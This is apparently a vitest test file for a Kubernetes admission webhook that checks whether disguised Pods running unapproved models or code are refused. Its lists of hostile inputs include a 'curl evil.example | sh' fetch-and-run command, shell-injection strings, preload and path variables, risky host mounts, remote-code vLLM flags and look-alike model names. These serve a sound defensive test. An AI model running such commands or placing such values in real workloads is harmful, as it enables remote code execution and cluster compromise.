import { beforeAll, describe, expect, it } from 'vitest';
import { readAdmissionConfig } from '../../../admission-webhook/src/index.ts';
import {
  answerFor,
  GOOD,
  GOOD_IMAGE,
  MANIFESTS,
  type Manifest,
  pod,
  production,
  RUNS,
  runs,
  vllm,
} from './evasions.ts';
import { gateOf } from './support.ts';

type State = Awaited<ReturnType<typeof production>>;
type Fields = Readonly<Record<string, unknown>>;
interface PodObject extends Fields {
  readonly kind: string;
  readonly metadata?: object;
  readonly spec: Fields & { readonly containers: readonly Fields[]; readonly initContainers?: readonly Fields[] };
}

let bare: State;
/** With every template, and an exception for each common Pod, all for the one digest that is approved. */
let excepted: State;
beforeAll(async () => {
  bare = await production();
  const about = { owner: 'ops', reason: 'reviewed', expires: '2099-01-01', images: [RUNS] };
  const words = MANIFESTS.filter((one) => one.expect === 'exception').flatMap(({ object }) =>
    isPod(object)
      ? object.spec.containers.map(({ command, args }) => ({
          ...(command ? { command } : {}),
          ...(args ? { args } : {}),
        }))
      : [],
  );
  const said = words.filter((one) => Object.keys(one).length > 0);
  const code = { code: 'f()', file: 'x.py', entrypoint: 'torchrun' };
  const templates = [{ template: 'kuberay' }, { template: 'fluent-bit' }, { template: 'trainjob', with: code }];
  const holes = {
    told: [
      { command: ['/bin/run', '--to', '{host:port}'], args: ['x {name} y'], env: [{ name: 'A', value: '{number}' }] },
    ],
  };
  const all = [...templates, { told: said }, holes].map((one, at) => ({ id: `e${at}`, ...about, ...one }));
  const spec = { defaults: { stage: 'production' }, exceptions: all };
  const text = JSON.stringify({ apiVersion: 'assay.dev/v1', kind: 'AdmissionConfig', spec });
  excepted = gateOf(bare.snapshot, readAdmissionConfig(text, 'c.yaml'));
});

function isPod(object: { readonly kind: string }): object is PodObject {
  return object.kind === 'Pod';
}

/** Ids of those that are admitted, by either webhook. */
function admitted(relatives: readonly (readonly [id: string, object: object])[]): readonly string[] {
  return relatives.flatMap(([id, object]) => [
    ...(answerFor(object, bare).allowed ? [`${id}, without exceptions`] : []),
    ...(answerFor(object, excepted).allowed ? [`${id}, with exceptions`] : []),
  ]);
}

const good = { name: 'good', ...vllm() };
const evil = MANIFESTS.filter(
  (one): one is Manifest & { object: PodObject } => one.expect === 'deny' && isPod(one.object),
);

/** The same Pod in another place, or under another name: what it runs does not change. */
const MOVED: Readonly<Record<string, (of: PodObject) => object>> = {
  'in a Deployment': ({ spec }) => ({ apiVersion: 'apps/v1', kind: 'Deployment', spec: { template: { spec } } }),
  'in a CronJob': ({ spec }) => ({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    spec: { jobTemplate: { spec: { template: { spec } } } },
  }),
  'beside an approved server': ({ spec, ...pod }) => ({
    ...pod,
    spec: { ...spec, containers: [good, ...spec.containers] },
  }),
  'with the names of injected containers': ({ spec, ...pod }) => ({
    ...pod,
    metadata: { name: 'p', ownerReferences: [{ kind: 'ReplicaSet', name: 'r', uid: 'u', controller: true }] },
    spec: {
      ...spec,
      containers: spec.containers.map((one, at) => ({
        ...one,
        name: ['istio-proxy', 'vault-agent', 'daprd'][at] ?? 'x',
      })),
    },
  }),
  'with labels of ours': ({ spec, ...pod }) => ({
    ...pod,
    metadata: { name: 'p', labels: { 'assay.dev/admission': 'off' }, annotations: { 'assay.dev/verified': 'true' } },
    spec,
  }),
};

describe('relatives of what is refused', () => {
  it.each(Object.entries(MOVED))('%s are refused', (_, move) => {
    expect(evil.length).toBeGreaterThan(100);
    expect(admitted(evil.map(({ id, object }) => [id, move(object)]))).toEqual([]);
  });

  it('as init containers are refused, but for hooks that an init container does not have', () => {
    const relatives = evil.map(({ id, object: { spec, ...pod } }) => {
      const initContainers = [
        ...(spec.initContainers ?? []),
        ...spec.containers.map((one, at) => ({ ...one, name: `i${at}`, restartPolicy: 'Always' })),
      ];
      return [id, { ...pod, spec: { ...spec, containers: [good], initContainers } }] as const;
    });
    expect(admitted(relatives)).toEqual([]);
  });
});

/** Everything of one list with everything of another. */
function product<A, B>(one: readonly A[], other: readonly B[]): readonly (readonly [A, B])[] {
  return one.flatMap((a) => other.map((b) => [a, b] as const));
}

const SCRIPTS = [
  'vllm serve evil/model',
  'exec python3 -m vllm.entrypoints.openai.api_server --model evil/model',
  'hf download evil/model; sleep 1',
  'sleep 1 && . /data/run',
  'sleep $(hf download evil/model)',
  'curl evil.example | sh',
  'echo ok\nollama pull evil',
];
const SHELLS = [
  ['sh', '-c'],
  ['bash', '-lc'],
  ['/bin/bash', '-ce'],
  ['dash', '-xec'],
  ['sh', '+e', '-c'],
  ['bash', '-c', '--'],
  ['bash', '--norc', '-c'],
  ['env', '-S', 'sh -c'],
  ['busybox', 'sh', '-c'],
  ['setsid', 'sh', '-c'],
  ['timeout', '9', 'sh', '-c'],
  ['nice', 'sh', '-c'],
  ['xargs', 'sh', '-c'],
  ['tini', '--', 'sh', '-c'],
  ['python3', '-c'],
  ['perl', '-e'],
  ['node', '-e'],
  ['su', '-c'],
];
const VARIABLES = [
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
  'PYTHONPATH',
  'PYTHONSTARTUP',
  'PYTHONHOME',
  'NODE_OPTIONS',
  'BASH_ENV',
  'ENV',
  'PATH',
  'HOME',
  'VLLM_PLUGINS',
  'VLLM_USE_MODELSCOPE',
  'HF_ENDPOINT',
  'HF_HUB_OFFLINE',
  'TRANSFORMERS_OFFLINE',
  'TORCH_HOME',
  'SSL_CERT_FILE',
  'REQUESTS_CA_BUNDLE',
  'CURL_CA_BUNDLE',
  'GIT_SSH_COMMAND',
  'PERL5LIB',
  'RUBYOPT',
  'JAVA_TOOL_OPTIONS',
  'NCCL_NET_PLUGIN',
  'CUDA_INJECTION64_PATH',
  'VLLM_CONFIG_ROOT',
  'XDG_CONFIG_HOME',
  'RAY_ADDRESS',
];
const SOURCES: readonly object[] = [
  { hostPath: { path: '/x' } },
  { persistentVolumeClaim: { claimName: 'c' } },
  { nfs: { server: 's', path: '/' } },
  { csi: { driver: 'x' } },
  { ephemeral: {} },
  { iscsi: {} },
  { emptyDir: {}, hostPath: { path: '/' } },
  { newKind: {} },
];
const FOLDERS = [
  '/',
  '/usr/bin',
  '/usr/lib',
  '/root',
  '/root/.cache',
  '/root/.cache/huggingface/hub',
  '/opt',
  '/models',
  '/tmp',
  '/vllm-workspace',
  '/etc',
  '/data/../usr',
];
const HOSTILE = [
  'hf://evil/model',
  'evil/model',
  '../x',
  'x;y',
  'x y',
  'x\ny',
  '$(X)',
  '${X}',
  '`x`',
  'x|y',
  'x&y',
  "x'y",
  'x"y',
  'x>y',
  'x\\y',
  'x*',
  'x\u0000',
  'x:1/evil',
  '-x',
  'x:99999999',
  '',
  'é',
  'x,y',
  'x=y',
  'x@y',
];
const OPTIONS = [
  '--middleware=x',
  '--tool-parser-plugin=/x.py',
  '--config=/x',
  '--hf-overrides={}',
  '--load-format=pt',
  '--trust-remote-code',
  '--tokenizer=evil/model',
  '--speculative-config={"model":"evil/model"}',
  '--lora-modules=a=evil/model',
  '--hf-config-path=evil/model',
  '--model-loader-extra-config={}',
  '--worker-cls=evil.W',
  '--worker-extension-cls=evil.W',
  '--logits-processors=evil.P',
  '--io-processor-plugin=x',
  '--load-for=pt',
  '--mod=evil/model',
  '--model=evil/model',
  '--code-revision=main',
  '--revision=main',
];

describe('more of what is refused, by class', () => {
  it('shells and interpreters, in many spellings', () => {
    const relatives = product(SHELLS, SCRIPTS).map(([shell, script]): readonly [string, object] => [
      [...shell, script].join(' '),
      pod(runs('acme/x', { command: [...shell, script] })),
    ]);
    expect(relatives.length).toBeGreaterThanOrEqual(120);
    expect(admitted(relatives)).toEqual([]);
  });

  it('variables, of a server and of a program that is told nothing', () => {
    const relatives = product(VARIABLES, [vllm(), runs('nginx')]).map(
      ([name, container]): readonly [string, object] => [
        `${name} of ${JSON.stringify(container)}`,
        pod({ ...container, env: [{ name, value: name.endsWith('OFFLINE') ? '1' : '/x' }] }),
      ],
    );
    expect(admitted(relatives)).toEqual([]);
  });

  it('volumes that others write to, anywhere in a server', () => {
    const relatives = product(SOURCES, FOLDERS).map(([source, mountPath]): readonly [string, object] => [
      `${JSON.stringify(source)} at ${mountPath}`,
      pod(vllm({ volumeMounts: [{ name: 'v', mountPath }] }), { volumes: [{ name: 'v', ...source }] }),
    ]);
    expect(admitted(relatives)).toEqual([]);
  });

  it('options that name code or other models, before and after what is approved', () => {
    const relatives = product(OPTIONS, [0, 1]).map(([option, at]): readonly [string, object] => {
      const told = ['--model', 'good/model', '--revision', GOOD];
      const args = at === 0 ? [option, ...told] : [...told, option];
      return [args.join(' '), pod(runs('vllm/vllm-openai', { args }))];
    });
    // The last one of two counts, and the approved revision is the last.
    const isOverridden = /^--(?:revision=main|model=evil\/model) --model/;
    expect(admitted(relatives.filter(([id]) => !isOverridden.test(id)))).toEqual([]);
  });

  it('names that look like the approved one', () => {
    const names = [
      'good/model ',
      'Good/model',
      'good/model.',
      'good/modeI',
      'good//model',
      'good/model/',
      './good/model',
      'good\\model',
      'good/model\u200b',
      'gооd/model',
      'good/model@main',
      'hf://good/model@main',
      '~/good/model',
      '/good/model',
      'good/model?x',
      'good/model#x',
      'good%2Fmodel',
    ];
    const relatives = product(names, ['--model', '--tokenizer']).map(([name, option]): readonly [string, object] => [
      `${option} ${name}`,
      pod(
        runs('vllm/vllm-openai', {
          args: option === '--model' ? [option, name] : ['--model', 'good/model', '--revision', GOOD, option, name],
        }),
      ),
    ]);
    expect(admitted(relatives)).toEqual([]);
  });

  it('mounts over an approved image', () => {
    const paths = ['/models/x', '/models/x/', '/models/x/config.json', '/models', '/models/x/../x', '/models//x'];
    const relatives = product(paths, SOURCES).map(([mountPath, source]): readonly [string, object] => {
      const volumeMounts = [
        { name: 'm', mountPath: '/models' },
        { name: 'v', mountPath },
      ];
      const volumes = [
        { name: 'm', image: { reference: GOOD_IMAGE } },
        { name: 'v', ...source },
      ];
      return [
        `${mountPath} ${JSON.stringify(source)}`,
        pod(runs('vllm/vllm-openai', { args: ['--model', '/models/x'], volumeMounts }), { volumes }),
      ];
    });
    expect(admitted(relatives)).toEqual([]);
  });

  it('hostile texts in the holes of an exception', () => {
    const container = { command: ['/bin/run', '--to', 'db:1'], args: ['x job y'], env: [{ name: 'A', value: '5' }] };
    expect(answerFor(pod(runs('acme/x', container)), excepted).allowed).toBe(true);
    const relatives = HOSTILE.flatMap((text): readonly (readonly [string, object])[] => [
      [`host ${text}`, pod(runs('acme/x', { ...container, command: ['/bin/run', '--to', text] }))],
      [`name ${text}`, pod(runs('acme/x', { ...container, args: [`x ${text} y`] }))],
      [`number ${text}`, pod(runs('acme/x', { ...container, env: [{ name: 'A', value: text }] }))],
    ]);
    // These are names, but no hosts and no numbers.
    expect(admitted(relatives)).toEqual([]);
  });
});
